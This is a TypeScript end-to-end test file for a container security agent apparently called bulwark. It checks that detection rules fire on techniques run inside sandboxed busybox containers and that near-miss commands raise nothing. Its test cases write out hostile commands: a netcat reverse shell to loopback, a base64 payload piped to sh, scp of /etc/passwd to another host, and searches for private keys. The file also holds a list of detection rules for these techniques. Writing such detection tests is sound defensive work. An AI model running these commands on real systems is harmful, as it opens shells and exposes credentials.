import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { SecurityEvent } from '../../src/events/event.js';
import { agentFixture, withAgent } from '../support/agent-run.js';
import { containerPid, importBusybox, putFile, removeContainer, runContainer } from '../support/busybox.js';
import { have } from '../support/require.js';
import { waitUntil } from '../support/wait.js';

// The default rules about programs (issue 14, items 2 and acceptance 1), end to end: real
// dockerd, kernel audit, the agent with its default rules. Each container's own command does
// one thing once the agent watches it (it waits for /tmp/go): installs a package, copies a file
// to another host, hands a shell to a network connection (nc -e), pipes a decoded payload into a shell, searches for private keys, has its
// "web server" start a shell; an interactive shell comes through docker exec -t. The near
// misses — an entrypoint script with a terminal and its subshells, decoding to a file, a shell
// fed by echo, a search for logs, a worker starting a shell — raise none of these rules.
// bulwark-test: exclusive (agent: kernel audit state)

const IMAGE = 'bulwark-test/busybox:rules-processes';
const RULES = new Set([
  'Reverse shell',
  'Privilege change',
  'Shell in container',
  'Package manager in container',
  'Remote copy tool in container',
  'Decoded payload piped to a shell',
  'Credential search in container',
  'Shell spawned by a service',
]);
const NEEDS = {
  'docker CLI (Debian docker.io)': have('docker'),
  'gcc (static build of the service stand-in)': have('gcc'),
};

// A service stand-in that is not a shell script: starts `sh -c` (system(3)) each time
// /tmp/shell appears. Installed twice in the image, as a server and as a worker.
const SERVICE_C = `#include <stdlib.h>
#include <unistd.h>
int main(void) {
  for (;;) {
    if (access("/tmp/shell", F_OK) == 0) { unlink("/tmp/shell"); if (system("id > /tmp/id") != 0) return 1; }
    usleep(50000);
  }
}
`;

const script = (body: string): Buffer => Buffer.from(`#!/bin/sh\n${body}\n`);

const fixture = agentFixture(NEEDS, [IMAGE], async (dir) => {
  const bb = readFileSync('/bin/busybox');
  writeFileSync(join(dir, 'service.c'), SERVICE_C);
  const cc = spawnSync('gcc', ['-static', '-O2', '-o', join(dir, 'service'), join(dir, 'service.c')], {
    encoding: 'utf8',
  });
  if (cc.status !== 0) throw new Error(`gcc: ${cc.stderr}`);
  const service = readFileSync(join(dir, 'service'));
  await importBusybox('bulwark-test/busybox', 'rules-processes', ['cat'], {
    'bin/find': bb,
    'bin/grep': bb,
    'bin/base64': bb,
    'bin/sed': bb,
    // stand-ins with the real names: what the rules see is the program's name and arguments
    'usr/bin/apt-get': script('exit 0'),
    'usr/bin/scp': script('exit 0'),
    'usr/sbin/nginx': script('sh -c "id > /tmp/who"; sleep 1'),
    'usr/bin/worker': script('sh -c "date > /tmp/when"; sleep 1'),
    // a set-user-id root program (busybox's id applet) for a container that runs as nobody
    'usr/local/sbin/id': { content: bb, mode: 0o4755 },
    'usr/sbin/app-server': service,
    'usr/bin/app-worker': service,
  });
});

const WAIT = 'until [ -e /tmp/go ]; do sleep 0.05; done; ';

interface Case {
  name: string;
  cmd: string;
  /** The rule it must raise (and no other of RULES); undefined: a near miss, none. */
  rule?: string;
  exe?: RegExp;
  tty?: boolean;
  user?: string;
}

// (busybox's shell runs some applets, find among them, without an exec: named by path, they are
// programs of their own, as they are in real images)
const CASES: Case[] = [
  { name: 'apt', cmd: 'apt-get install -y nmap', rule: 'Package manager in container', exe: /busybox$/ },
  { name: 'scp', cmd: 'scp /etc/passwd backup@203.0.113.9:/tmp', rule: 'Remote copy tool in container' },
  { name: 'decode', cmd: 'echo aWQgPiAvdG1wL3BheWxvYWQK | base64 -d | sh', rule: 'Decoded payload piped to a shell' },
  { name: 'keys', cmd: '/bin/find / -xdev -name id_rsa', rule: 'Credential search in container' },
  { name: 'keys-grep', cmd: 'grep -rl "PRIVATE KEY" /etc', rule: 'Credential search in container' },
  { name: 'webshell', cmd: 'nginx', rule: 'Shell spawned by a service' },
  {
    name: 'setuid',
    cmd: '/usr/local/sbin/id > /tmp/id',
    rule: 'Privilege change',
    user: '65534',
    exe: /\/usr\/local\/sbin\/id$/,
  },
  // the "attacker" listens on the container's own loopback (its network is none)
  {
    name: 'revshell',
    cmd: '(echo id; sleep 2) | nc -l -p 4444 > /tmp/out & sleep 0.5; nc 127.0.0.1 4444 -e /bin/sh',
    rule: 'Reverse shell',
  },
  // near misses
  { name: 'entry-tty', cmd: 'sh -c "echo hi; sh -c id"; sed -n 1p /etc/passwd', tty: true },
  { name: 'decode-file', cmd: 'echo aGVsbG8K | base64 -d > /tmp/hello; base64 /tmp/hello | sh -c "cat > /tmp/x"' },
  { name: 'stdin-shell', cmd: 'echo id | sh' },
  { name: 'nobody-id', cmd: '/bin/id > /tmp/id', user: '65534' },
  { name: 'nc-file', cmd: 'nc -l -p 4445 > /tmp/got & sleep 0.5; nc 127.0.0.1 4445 < /etc/passwd; sh -c id' },
  { name: 'logs', cmd: '/bin/find / -xdev -name "*.log"; grep -r root /etc/passwd' },
  { name: 'worker', cmd: 'worker' },
];

/** The events of RULES raised in this container. */
function ours(events: readonly SecurityEvent[], id: string): SecurityEvent[] {
  return events.filter((e) => e.container?.id === id && RULES.has(e.rule));
}

async function startCases(run: string): Promise<Map<string, string>> {
  const ids = new Map<string, string>();
  await Promise.all(
    CASES.map(async (c) => {
      const id = await runContainer(IMAGE, ['sh', '-c', `${WAIT}${c.cmd}; touch /tmp/done; sleep 300`], {
        name: `bulwark-proc-${c.name}-${run}`,
        ...(c.tty ? { tty: true } : {}),
        ...(c.user ? { user: c.user } : {}),
      });
      ids.set(c.name, id);
    }),
  );
  return ids;
}

function dockerExecTty(id: string, cmd: string[]): Promise<number | null> {
  // asynchronously: the agent runs in this process and must stay free to answer fanotify
  return new Promise((resolve) => spawn('docker', ['exec', '-t', id, ...cmd], { stdio: 'ignore' }).on('exit', resolve));
}

test('each program rule fires on its technique, exactly once and alone; the near misses raise nothing', async (t) => {
  if (!(await fixture.gate(t))) return;
  const ids = await startCases(String(process.pid));
  const pids = new Map<string, number>();
  try {
    for (const [name, id] of ids) pids.set(name, await containerPid(id));
    await withAgent(fixture.dir(), {}, async (events) => {
      await Promise.all([...ids.values()].map((id) => putFile(id, '/tmp', 'go', Buffer.from(''))));
      const shellId = ids.get('logs')!;
      assert.equal(await dockerExecTty(shellId, ['sh', '-c', 'id; sh -c true']), 0);
      const wanted = CASES.filter((c) => c.rule);
      await waitUntil(
        'every command done',
        () => [...pids.values()].every((pid) => existsSync(`/proc/${pid}/root/tmp/done`)),
        {
          timeoutMs: 15_000,
        },
      );
      await waitUntil(
        'the rule of each technique',
        () => wanted.every((c) => ours(events, ids.get(c.name)!).length > 0),
        { timeoutMs: 15_000 },
      ).catch(() => undefined); // the assertions below say which is missing
      // the agent read what the near misses did with the rest: a second for stragglers
      await new Promise((r) => setTimeout(r, 1000));
      for (const c of CASES) {
        const id = ids.get(c.name)!;
        const got = ours(events, id).filter((e) => !(c.name === 'logs' && e.rule === 'Shell in container'));
        const seen =
          JSON.stringify(got.map((e) => [e.rule, e.message])) +
          ` (all: ${JSON.stringify(events.filter((e) => e.container?.id === id).map((e) => [e.rule, e.message]))})`;
        if (!c.rule) {
          assert.deepEqual(got, [], `${c.name}: ${seen}`);
          continue;
        }
        assert.deepEqual(
          got.map((e) => e.rule),
          [c.rule],
          `${c.name}: ${seen}`,
        );
        const e = got[0]!;
        assert.equal(e.container?.image, IMAGE);
        assert.ok(e.process?.exe, `${c.name}: process exe`);
        if (c.exe) assert.match(e.process!.exe!, c.exe);
      }
      const shell = ours(events, shellId).filter((e) => e.rule === 'Shell in container');
      assert.equal(shell.length, 1, JSON.stringify(shell.map((e) => e.message)));
      assert.match(shell[0]!.message, /on terminal pts/);
      assert.deepEqual(shell[0]!.process?.args, ['sh', '-c', 'id; sh -c true']);
    });
  } finally {
    await Promise.all([...ids.values()].map((id) => removeContainer(id)));
  }
});

test('after Learn, a program that never started a shell starting one is "Shell spawned by a service"; one that did is not', async (t) => {
  if (!(await fixture.gate(t))) return;
  const run = String(process.pid);
  const ids: string[] = [];
  const shellIn = async (id: string): Promise<void> => {
    const pid = await containerPid(id);
    await putFile(id, '/tmp', 'shell', Buffer.from(''));
    await waitUntil(
      'the shell ran',
      () => existsSync(`/proc/${pid}/root/tmp/id`) && !existsSync(`/proc/${pid}/root/tmp/shell`),
    );
    spawnSync('rm', ['-f', `/proc/${pid}/root/tmp/id`]);
  };
  try {
    await withAgent(join(fixture.dir(), 'learned'), { learnPeriodMs: 3000, afterLearn: 'monitor' }, async (events) => {
      // started under the agent: the profile learns both programs, and the worker starting a shell
      const server = await runContainer(IMAGE, ['/usr/sbin/app-server'], { name: `bulwark-proc-server-${run}` });
      ids.push(server);
      const worker = await runContainer(IMAGE, ['/usr/bin/app-worker'], { name: `bulwark-proc-worker-${run}` });
      ids.push(worker);
      await shellIn(worker);
      await waitUntil('learning to end', () => events.some((e) => e.rule === 'Profile learned'), { timeoutMs: 20_000 });
      await shellIn(worker);
      await shellIn(server);
      await waitUntil(
        "the server's shell reported",
        () => events.some((e) => e.rule === 'Shell spawned by a service'),
        {
          timeoutMs: 10_000,
        },
      ).catch(() => undefined); // the assertion says what came
      const shells = events.filter((e) => e.rule === 'Shell spawned by a service');
      assert.deepEqual(
        shells.map((e) => [e.container?.id, e.process?.args]),
        [[server, ['sh', '-c', 'id > /tmp/id']]],
        JSON.stringify(events.map((e) => [e.rule, e.message])),
      );
      assert.match(shells[0]!.message, /started by app-server/);
    });
  } finally {
    for (const id of ids) await removeContainer(id);
  }
});
